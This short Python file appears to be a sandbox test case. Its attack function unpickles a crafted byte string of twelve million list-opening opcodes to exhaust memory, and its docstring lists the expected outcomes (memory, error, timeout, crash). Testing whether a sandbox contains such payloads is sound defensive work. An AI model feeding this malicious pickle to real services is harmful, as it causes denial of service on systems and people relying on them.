"""Load a pickle that opens lists for ever and holds all of them.

Evidence: memory
Sandbox: memory, error, timeout, crashed
"""

import pickle


def attack(target):
    return len(str(type(pickle.loads(b"]" * 12_000_000 + b"."))))
